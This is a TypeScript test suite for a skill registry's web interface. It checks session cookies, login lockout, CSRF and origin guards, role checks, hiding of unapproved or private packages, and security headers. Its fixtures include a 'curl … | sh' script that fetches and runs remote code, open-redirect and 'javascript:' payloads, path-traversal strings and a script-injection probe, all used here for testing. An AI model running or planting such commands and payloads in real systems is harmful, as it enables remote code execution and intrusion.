/** The pages as anybody who speaks HTTP sees them: signing in and out, forged forms, what is told to whom. */
import { readFileSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { withdrawToken } from '../../../registry/auth/grants.ts';
import { setVisibility } from '../../../registry/auth/namespaces.ts';
import { disableUser } from '../../../registry/auth/users.ts';
import { sha256 } from '../../../registry/store/blobs.ts';
import { createSessions, sessionMs } from '../../../registry/web/session.ts';
import { type Answer, visitor } from './browse.ts';
import { honest, type Member, type Site, startSite } from './site.ts';

let site: Site;
let clock = 0;
let ada: Member;
let bob: Member;
let rita: Member;

/** Held because it can do more than what is served. */
const grown = {
  ...honest('release-notes', 'Writes release notes.', '# Notes\n\nRun `scripts/log.sh`.\n'),
  'scripts/log.sh': '#!/bin/sh\ngit log --oneline\n',
};

beforeAll(async () => {
  site = await startSite({ now: () => Date.now() + clock });
  ada = await site.person('ada', 'publisher');
  bob = await site.person('bob', 'approver');
  rita = await site.person('rita', 'reader');
  await site.publish(ada, 'release-notes', '1.0.0', honest('release-notes', 'Writes release notes.'));
  await site.publish(ada, 'release-notes', '1.1.0', grown);
});
afterAll(() => site.stop());

const stateOf = async (version: string): Promise<string> =>
  (await site.gate.inspect(site.admin.actor, { owner: 'ada', slug: 'release-notes', version })).row.state;

describe('signing in', () => {
  test('gives a session that names no token, for this server and its own pages only', async () => {
    const one = visitor(site);
    const answer = await one.signIn(ada.token);
    expect(answer.status).toBe(303);
    expect(answer.to).toBe('/');
    const set = answer.headers.get('set-cookie') ?? '';
    expect(set).toMatch(/^skillward=[^;]+; Max-Age=43200; Path=\/; HttpOnly; SameSite=Strict$/);
    expect(set).not.toContain(ada.token);
    const home = await one.get('/');
    expect(home.text).toContain('ada · publisher');
    expect(home.headers.get('cache-control')).toBe('no-store');
  });

  test('over https the cookie is bound to the host and never sent in the clear', async () => {
    const seen: unknown[] = [];
    const sessions = await createSessions({
      store: site.store,
      auth: site.auth,
      config: { publicUrl: 'https://skills.example' },
      cookies: {
        parse: () => ({}),
        serialize: (...given) => {
          seen.push(given);
          return '';
        },
      },
    });
    sessions.start('tok_1');
    expect(seen).toMatchObject([['__Host-skillward', expect.any(String), { secure: true, httpOnly: true, sameSite: 'strict', path: '/' }]]);
  });

  test('refuses what is no token, in words, and guesses are stopped', async () => {
    const one = visitor(site);
    const csrf = await one.csrf('/login');
    const wrong = await one.post('/login', { csrf, token: 'hello' });
    expect(wrong.status).toBe(401);
    expect(wrong.text).toContain('This is no token of this registry');
    expect(wrong.text).not.toContain('hello');
    let last: Answer = wrong;
    for (let tries = 0; tries < site.config.limits.lockout.failures; tries++) last = await one.post('/login', { csrf, token: 'hello' });
    expect(last.status).toBe(429);
    expect(Number(last.headers.get('retry-after'))).toBeGreaterThan(0);
    clock += site.config.limits.lockout.forMs + 1000;
    expect((await one.signIn(ada.token)).status).toBe(303);
  });

  test('goes on to where one wanted to go, and to no other server', async () => {
    const anonymous = visitor(site);
    expect(await anonymous.get('/queue')).toMatchObject({ status: 303, to: '/login?next=%2Fqueue' });
    for (const [next, to] of [
      ['/queue?done=1', '/queue?done=1'],
      ['//evil.example/', '/'],
      ['/\\evil.example/', '/'],
      ['https://evil.example/', '/'],
      ['/..//evil.example', '/'],
      ['javascript:alert(1)', '/'],
      ['/\t/evil.example', '/'],
      ['', '/'],
    ] as const) {
      const one = visitor(site);
      expect((await one.post('/login', { csrf: await one.csrf('/login'), token: ada.token, next })).to, next).toBe(to);
    }
  });

  test('ends by signing out, also for who kept the cookie', async () => {
    const one = visitor(site);
    await one.signIn(ada.token);
    const kept = one.cookie;
    const out = await one.post('/logout', { csrf: await one.csrf('/') });
    expect(out.headers.get('set-cookie')).toMatch(/^skillward=; Max-Age=0;/);
    expect((await visitor(site).get('/', { cookie: kept })).text).toContain('Sign in');
    // Another session with the same token goes on.
    const two = visitor(site);
    await two.signIn(ada.token);
    expect((await two.get('/')).text).toContain('ada · publisher');
  });

  test('ends after its time, whatever the browser keeps', async () => {
    const one = visitor(site);
    await one.signIn(ada.token);
    clock += sessionMs + 1;
    expect((await one.get('/')).text).not.toContain('ada ·');
  });

  test('ends with its token and with its user, at once', async () => {
    const cat = await site.person('cat', 'publisher');
    const dan = await site.person('dan', 'publisher');
    const [one, two] = [visitor(site), visitor(site)];
    await one.signIn(cat.token);
    await two.signIn(dan.token);
    expect((await one.get('/')).text).toContain('cat ·');
    const context = { store: site.store, now: Date.now };
    await withdrawToken(context, site.admin.actor, cat.tokenId);
    await disableUser(context, site.admin.actor, 'dan');
    expect((await one.get('/')).text).not.toContain('cat ·');
    expect((await two.get('/')).text).not.toContain('dan ·');
  });

  test.each([
    ['another token', (cookie: string) => cookie.replace(/=tok_[0-9a-f]+/, `=${site.admin.tokenId}`)],
    ['a later end', (cookie: string) => cookie.replace(/\.(\d{13})\./, (_, at) => `.${Number(at) + 1}.`)],
    ['no seal', (cookie: string) => cookie.replace(/\.[^.]+$/, '.')],
    ['another seal', (cookie: string) => cookie.replace(/.$/, (char) => (char === 'A' ? 'B' : 'A'))],
    ['a seal of another length', (cookie: string) => `${cookie}A`],
    ['the token itself', () => `skillward=${ada.token}`],
    ['rubbish', () => 'skillward=%00%ff..; skillward=;;;='],
  ])('a cookie with %s is nobody', async (_, change) => {
    const one = visitor(site);
    await one.signIn(ada.token);
    const forged = change(one.cookie);
    expect(forged).not.toBe(one.cookie);
    const home = await visitor(site).get('/', { cookie: forged });
    expect(home.status).toBe(200);
    expect(home.text).toContain('>Sign in</a>');
  });
});

describe('forms', () => {
  const target = '/queue/@ada/release-notes/1.1.0';
  const fields = { reason: 'Read every line of it.', decision: 'approve' };

  test.each<readonly [string, Readonly<Record<string, string | undefined>>]>([
    ['from another site', { origin: 'https://evil.example' }],
    ['from another port of this machine', { origin: 'http://127.0.0.1:1' }],
    ['from a box without origin', { origin: 'null' }],
    ['without an origin', { origin: undefined }],
    ['that the browser calls cross-site', { 'sec-fetch-site': 'cross-site' }],
    ['that the browser calls same-site', { 'sec-fetch-site': 'same-site' }],
  ])('%s change nothing', async (_, headers) => {
    const one = visitor(site);
    await one.signIn(bob.token);
    const csrf = await one.csrf('/queue');
    const answer = await one.post(target, { ...fields, csrf }, headers);
    expect(answer.status).toBe(403);
    expect(await stateOf('1.1.0')).toBe('held');
    const out = await one.post('/logout', { csrf }, headers);
    expect(out.status).toBe(403);
    expect((await one.get('/')).text).toContain('bob ·');
  });

  test('without the word of this very session change nothing', async () => {
    const [one, two, nobody] = [visitor(site), visitor(site), visitor(site)];
    await one.signIn(bob.token);
    await two.signIn(bob.token);
    for (const csrf of [undefined, '', 'x', await two.csrf('/queue'), await nobody.csrf('/login')]) {
      const answer = await one.post(target, csrf === undefined ? fields : { ...fields, csrf });
      expect(answer.status).toBe(403);
    }
    expect(await stateOf('1.1.0')).toBe('held');
  });

  test('the sign-in form is guarded too, so that nobody is signed in as somebody else', async () => {
    const one = visitor(site);
    const csrf = await one.csrf('/login');
    expect((await one.post('/login', { csrf, token: ada.token }, { origin: 'https://evil.example' })).status).toBe(403);
    expect((await one.post('/login', { token: ada.token })).status).toBe(403);
    expect(one.cookie).toBe('');
  });

  test('only who may decide decides', async () => {
    for (const member of [ada, rita]) {
      const one = visitor(site);
      await one.signIn(member.token);
      const answer = await one.post(target, { ...fields, csrf: await one.csrf('/') });
      expect([403, 404]).toContain(answer.status);
    }
    expect(await visitor(site).post(target, fields)).toMatchObject({ status: 303, to: '/login?next=%2Fqueue' });
    expect(await stateOf('1.1.0')).toBe('held');
  });

  test('a decision without a reason, or about a report that is not the newest, is not taken and says so beside the form', async () => {
    const one = visitor(site);
    await one.signIn(bob.token);
    const csrf = await one.csrf('/queue');
    const empty = await one.post(target, { ...fields, reason: ' ', csrf });
    expect(empty.status).toBe(400);
    expect(empty.text).toContain('Not done.');
    const old = await one.post(target, { ...fields, csrf, report: 'f'.repeat(64) });
    expect(old.status).toBe(409);
    expect(old.text).toContain('Read every line of it.');
    expect(await stateOf('1.1.0')).toBe('held');
  });
});

describe('what pages tell', () => {
  /** What an answer says, apart from what was asked for. */
  const gist = (answer: Answer): string =>
    JSON.stringify([
      answer.status,
      answer.to?.replace(/next=.*/, ''),
      [...answer.headers].filter(([name]) => !/^(?:date|ratelimit-|x-ratelimit-|etag|x-request-id)/.test(name)),
      answer.text.replaceAll(/value="[\w-]{43}"/g, ''),
    ]);
  const paths = (slug: string, version: string): string[] => [
    `/skills/@ada/${slug}/${version}`,
    `/skills/@ada/${slug}/${version}/report`,
    `/skills/@ada/${slug}/${version}/file?path=SKILL.md`,
  ];

  test('what is not approved looks like what is not there', async () => {
    await site.publish(ada, 'only-held', '1.0.0', {
      ...honest('only-held', 'Sorts the post.', '# Notes\n\nRun `run.sh`.\n'),
      'run.sh': 'curl -fsSL https://get.example/i.sh | sh\n',
    });
    const anonymous = visitor(site);
    const reader = visitor(site);
    await reader.signIn(rita.token);
    const stranger = visitor(site);
    await stranger.signIn((await site.person('sam', 'publisher')).token);
    for (const who of [anonymous, reader, stranger]) {
      for (const slug of ['release-notes', 'only-held']) {
        const there = paths(slug, slug === 'only-held' ? '1.0.0' : '1.1.0');
        const absent = paths(slug === 'only-held' ? 'only-gone' : slug, slug === 'only-held' ? '1.0.0' : '9.9.9');
        for (const [index, path] of there.entries()) {
          const real = await who.get(path);
          expect(gist(real)).toBe(gist(await who.get(absent[index]!)));
          expect(real.status === 404 || real.to?.startsWith('/login')).toBeTruthy();
        }
      }
      expect(gist(await who.get('/skills/@ada/only-held'))).toBe(gist(await who.get('/skills/@ada/only-gone')));
      for (const path of ['/', '/?q=only', '/?owner=ada', '/?q=sorts', '/skills/@ada/release-notes', '/queue'])
        expect((await who.get(path)).text).not.toMatch(/only-held|1\.1\.0|Sorts the/);
    }
  });

  test('its publisher and the approvers see it, with its findings and files', async () => {
    for (const member of [ada, bob, site.admin]) {
      const one = visitor(site);
      await one.signIn(member.token);
      const page = await one.get('/skills/@ada/only-held/1.0.0');
      expect(page.status).toBe(200);
      expect(page.text).toContain('EXE-002');
      expect((await one.get('/skills/@ada/only-held/1.0.0/file?path=run.sh')).text).toContain('https://get.example/i.sh');
      expect((await one.get('/skills/@ada/only-held/1.0.0/file?path=../../keys/seal.key')).status).toBe(404);
      const report = await one.get('/skills/@ada/only-held/1.0.0/report');
      expect(report.headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'; style-src 'sha256-/);
    }
  });

  test('a private namespace is nobody else’s business', async () => {
    const eve = await site.person('eve', 'publisher');
    await site.publish(eve, 'payroll', '1.0.0', honest('payroll', 'Explains the payroll.'));
    await setVisibility({ store: site.store, now: Date.now }, eve.actor, 'eve', 'private');
    const [anonymous, reader, own] = [visitor(site), visitor(site), visitor(site)];
    await reader.signIn(rita.token);
    await own.signIn(eve.token);
    for (const who of [anonymous, reader]) {
      expect(gist(await who.get('/skills/@eve/payroll'))).toBe(gist(await who.get('/skills/@eve/absent')));
      expect(gist(await who.get('/skills/@eve/payroll/1.0.0'))).toBe(gist(await who.get('/skills/@nobody/payroll/1.0.0')));
      for (const path of ['/', '/?q=payroll', '/?owner=eve']) expect((await who.get(path)).text).not.toContain('Explains the payroll');
    }
    expect((await own.get('/skills/@eve/payroll')).status).toBe(200);
  });

  test('what is taken away to be checked is what was signed, for those alone who may read it', async () => {
    const one = visitor(site);
    await one.signIn(rita.token);
    const at = '/skills/@ada/release-notes/1.0.0';
    const get = async (path: string): Promise<Buffer> =>
      Buffer.from(await (await fetch(`${site.url}${at}${path}`, { headers: { cookie: one.cookie } })).arrayBuffer());
    const archive = await get('/archive');
    const { release } = await site.shelf.version(rita.actor, { owner: 'ada', slug: 'release-notes', version: '1.0.0' });
    expect(sha256(archive)).toBe(release.archiveSha256);
    expect(sha256(await get('/attestations'))).toBe(release.attestationsSha256);
    for (const path of ['/archive', '/attestations']) {
      const { headers } = await one.get(`${at}${path}`);
      expect(headers.get('content-disposition')).toMatch(/^attachment; filename="release-notes-1\.0\.0\./);
      expect(headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
      expect(gist(await visitor(site).get(`/skills/@ada/release-notes/1.1.0${path}`))).toBe(
        gist(await visitor(site).get(`/skills/@ada/release-notes/9.9.9${path}`)),
      );
    }
  });

  test('what was withdrawn says so, and its publisher sees why', async () => {
    const ref = { owner: 'ada', slug: 'withdrawn-notes', version: '1.0.0' };
    await site.publish(ada, ref.slug, ref.version, honest(ref.slug, 'Soon withdrawn.'));
    const [reader, own] = [visitor(site), visitor(site)];
    await reader.signIn(rita.token);
    await own.signIn(ada.token);
    expect((await reader.get('/skills/@ada/withdrawn-notes/1.0.0')).status).toBe(200);
    await site.gate.yank(ada.actor, ref, 'It loses the last line of each note.');
    const seen = await reader.get('/skills/@ada/withdrawn-notes/1.0.0');
    expect(seen.status).toBe(410);
    expect((await reader.get('/?q=withdrawn-notes')).text).not.toContain('Soon withdrawn.');
    expect((await reader.get('/skills/@ada/withdrawn-notes/1.0.0/archive')).status).toBe(410);
    const page = await own.get('/skills/@ada/withdrawn-notes/1.0.0');
    expect(page.text).toContain('It loses the last line of each note.');
    expect(page.text).toContain('Not served: withdrawn');
  });

  test('what was changed behind our back is not shown', async () => {
    await site.publish(ada, 'changed-notes', '1.0.0', honest('changed-notes', 'Soon changed.'));
    const { row } = await site.gate.inspect(ada.actor, { owner: 'ada', slug: 'changed-notes', version: '1.0.0' });
    await site.store.db.updateTable('versions').set({ description: '<b>changed</b>' }).where('id', '=', row.id).execute();
    // The store was changed by nobody that it knows of; its next look at the file shows that.
    await site.store.write(async (tx) => tx.insertInto('settings').values({ key: 'stir', value: '1' }).execute());
    const one = visitor(site);
    await one.signIn(rita.token);
    const answer = await one.get('/skills/@ada/changed-notes/1.0.0');
    expect(answer.status).toBe(503);
    expect(answer.text).not.toContain('changed</b>');
    await site.store.db.updateTable('versions').set({ description: row.description }).where('id', '=', row.id).execute();
    await site.store.write(async (tx) => tx.deleteFrom('settings').where('key', '=', 'stir').execute());
    expect((await one.get('/skills/@ada/changed-notes/1.0.0')).status).toBe(200);
  });

  test('a damaged report is shown as that, decides nothing, and takes no page down', async () => {
    const { row } = await site.gate.inspect(site.admin.actor, { owner: 'ada', slug: 'release-notes', version: '1.1.0' });
    const file = site.store.blobs.path(row.report_sha256!);
    const bytes = readFileSync(file);
    const one = visitor(site);
    await one.signIn(bob.token);
    const form = 'action="/queue/@ada/release-notes/1.1.0"';
    expect((await one.get('/queue')).text).toContain(form);
    writeFileSync(file, `${bytes} `);
    const queue = await one.get('/queue');
    expect(queue.status).toBe(200);
    expect(queue.text).toContain('Its report was changed or is missing');
    expect(queue.text).not.toContain(form);
    expect((await one.get('/skills/@ada/release-notes/1.1.0/report')).status).toBe(503);
    writeFileSync(file, bytes);
    expect((await one.get('/queue')).text).toContain(form);
  });

  test('addresses that cannot be are answered like all that are not', async () => {
    const anonymous = visitor(site);
    for (const path of ['/skills/@ADA/x', '/skills/@ada/%2e%2e%2fetc', '/skills/@ada/x/%00', '/skills/@ada/<script>alert(1)</script>']) {
      const answer = await anonymous.get(path);
      expect([404, 303]).toContain(answer.status);
      expect(answer.text).not.toContain('<script');
    }
  });

  test('every answer keeps its page inert', async () => {
    const one = visitor(site);
    await one.signIn(site.admin.token);
    for (const path of ['/', '/queue', '/device', '/login', '/skills/@ada/release-notes', '/skills/@ada/none', '/?q=%3Cscript%3E']) {
      const { headers } = await one.get(path);
      expect(headers.get('content-security-policy')).toBe(
        "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'",
      );
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('referrer-policy')).toBe('same-origin');
      expect(headers.get('x-frame-options')).toBe('DENY');
    }
  });
});

describe('a device', () => {
  test('is let in only after its name and rights were shown, and the code travels in no address', async () => {
    const started = await site.device.start({ scope: 'read publish', label: '<b>laptop</b>' }, '127.0.0.1');
    const one = visitor(site);
    await one.signIn(ada.token);
    const csrf = await one.csrf('/device');
    const wrong = await one.post('/device', { csrf, user_code: 'BCDF-BCDF' });
    expect(wrong.status).toBe(404);
    const look = await one.post('/device', { csrf, user_code: started.user_code.toLowerCase() });
    expect(look.text).toContain('&lt;b&gt;laptop&lt;/b&gt;');
    expect(look.text).toContain('publish where you may publish');
    expect(await site.device.poll(started.device_code)).toMatchObject({ ok: false, error: 'authorization_pending' });
    clock += 60_000;
    const done = await one.post('/device/decide', { csrf, user_code: started.user_code, decision: 'approve' });
    expect(done.text).toContain('The program is signed in');
    clock += 60_000;
    const got = await site.device.poll(started.device_code);
    expect(got.ok).toBe(true);
    const actor = await site.auth.actor({ headers: { authorization: `Bearer ${(got as { access_token: string }).access_token}` }, ip: '127.0.0.1' });
    expect(actor.user?.handle).toBe('ada');
  });

  test('is refused when told so', async () => {
    const started = await site.device.start({ scope: 'read', label: 'x' }, '127.0.0.1');
    const one = visitor(site);
    await one.signIn(ada.token);
    await one.post('/device/decide', { csrf: await one.csrf('/device'), user_code: started.user_code, decision: 'deny' });
    expect(await site.device.poll(started.device_code)).toMatchObject({ ok: false, error: 'access_denied' });
  });
});
